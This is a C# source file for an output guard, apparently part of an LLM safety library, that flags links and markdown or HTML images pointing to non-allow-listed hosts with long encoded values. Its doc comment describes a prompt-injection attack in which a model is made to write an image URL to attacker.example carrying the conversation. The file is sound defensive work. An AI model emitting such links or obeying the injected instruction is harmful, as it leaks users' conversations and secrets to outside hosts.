using Bulwark.Kernel.Guards;

namespace Bulwark.Usage.Guards;

/// <summary>
/// Links and images that carry data out: an injected instruction makes the model write
/// <c>![](https://attacker.example/p?q=&lt;the conversation&gt;)</c>, and the client fetches it unasked. Flags URLs to hosts
/// outside the allow-list whose query or path holds a long encoded value; images score higher than links, because
/// rendering one needs no click. Hand-written scanning, linear in the text.
/// </summary>
public sealed class ExfiltrationLinkGuard(IReadOnlyList<string>? allowedDomains = null) : IGuard
{
    public const string ImageRuleId = "BW-USAGE-OUTPUT-IMAGE-EXFIL";
    public const string LinkRuleId = "BW-USAGE-OUTPUT-LINK-EXFIL";

    /// <summary>An encoded value at least this long can hold a secret or a sentence.</summary>
    public const int MinDataChars = 20;
    public const int MaxUrlChars = 8192;

    private readonly string[] _allowed = (allowedDomains ?? []).Select(d => d.Trim().TrimStart('.').ToLowerInvariant()).Where(d => d.Length > 0).ToArray();

    public string Name => "exfiltration-links";

    public IReadOnlyList<GuardHit> Inspect(string text, GuardContext context, CancellationToken cancellationToken)
    {
        var hits = new List<GuardHit>();
        for (var at = IndexOfScheme(text, 0); at >= 0; at = IndexOfScheme(text, at + 1))
        {
            var end = at;
            while (end < text.Length && end - at < MaxUrlChars && !EndsUrl(text[end])) end++;
            var url = text[at..end].TrimEnd('.', ',', ';', ':', '!', '?', '*', '_');
            if (!Uri.TryCreate(url, UriKind.Absolute, out var uri) || IsAllowed(uri.Host)) continue;
            var data = LongestDataValue(uri);
            if (data < MinDataChars) continue;
            var image = IsImage(text, at);
            hits.Add(new GuardHit(Name, image ? ImageRuleId : LinkRuleId, image ? 0.9f : 0.7f, at, url.Length,
                $"{(image ? "image" : "link")} to {uri.Host} carries a {data}-character encoded value{(image ? "; it is fetched as soon as the answer renders" : "")}"));
            at = end - 1;
        }
        return hits;
    }

    private static int IndexOfScheme(string text, int from)
    {
        var at = text.IndexOf("http", from, StringComparison.OrdinalIgnoreCase);
        while (at >= 0)
        {
            var rest = text.AsSpan(at);
            if (rest.StartsWith("https://", StringComparison.OrdinalIgnoreCase) || rest.StartsWith("http://", StringComparison.OrdinalIgnoreCase)) return at;
            at = text.IndexOf("http", at + 4, StringComparison.OrdinalIgnoreCase);
        }
        return -1;
    }

    private static bool EndsUrl(char c) => char.IsWhiteSpace(c) || c is ')' or ']' or '>' or '<' or '"' or '\'' or '`';

    private bool IsAllowed(string host)
    {
        host = host.ToLowerInvariant();
        return _allowed.Any(d => host == d || host.EndsWith("." + d, StringComparison.Ordinal));
    }

    /// <summary>The longest query value or path segment, decoded, made of characters that encode data.</summary>
    private static int LongestDataValue(Uri uri)
    {
        var longest = 0;
        var parts = uri.AbsolutePath.Split('/').Concat(uri.Query.TrimStart('?').Split('&').Select(p => p[(p.IndexOf('=') + 1)..]));
        foreach (var part in parts)
        {
            var value = Uri.UnescapeDataString(part);
            // Words with spaces (a URL-encoded sentence) and base64/hex runs both count; a readable slug-like path does not.
            var encoded = value.Contains(' ', StringComparison.Ordinal) || value.Any(char.IsDigit) || value.Contains('=', StringComparison.Ordinal) || value.Contains('+', StringComparison.Ordinal);
            if (encoded) longest = Math.Max(longest, value.Length);
        }
        return longest;
    }

    /// <summary>A markdown image <c>![alt](url)</c> or an HTML <c>&lt;img src="url"&gt;</c>.</summary>
    private static bool IsImage(string text, int urlStart)
    {
        if (urlStart >= 2 && text[urlStart - 1] == '(' && text[urlStart - 2] == ']')
        {
            var open = text.LastIndexOf('[', urlStart - 2, Math.Min(urlStart - 1, 1024));
            return open > 0 && text[open - 1] == '!';
        }
        if (urlStart == 0) return false;
        var from = Math.Max(0, urlStart - 256);
        var tag = text.LastIndexOf("<img", urlStart - 1, urlStart - from, StringComparison.OrdinalIgnoreCase);
        return tag >= 0 && text.IndexOf('>', tag, urlStart - tag) < 0;
    }
}
